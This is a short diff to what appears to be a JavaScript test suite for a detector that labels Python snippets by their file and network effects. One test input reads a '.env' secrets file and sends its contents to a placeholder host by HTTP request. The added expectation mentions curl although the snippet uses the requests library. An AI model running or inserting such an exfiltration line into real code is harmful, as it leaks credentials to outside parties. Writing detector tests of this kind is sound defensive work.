@@ -147,7 +147,7 @@ describe('the network', () => {
     ["import smtplib; smtplib.SMTP('a.example')", ['send: connect a.example']],
     [
       "import requests; requests.get('https://a.example/?q=' + open('.env').read())",
-      ['read /w/.env', 'send: connect a.example'],
+      ['read /w/.env', 'send: connect a.example', 'read /w/.env, which curl sends'],
     ],
     ["from urllib.parse import quote; print(quote('a b'))", []],
     ["print('https://a.example')", []],
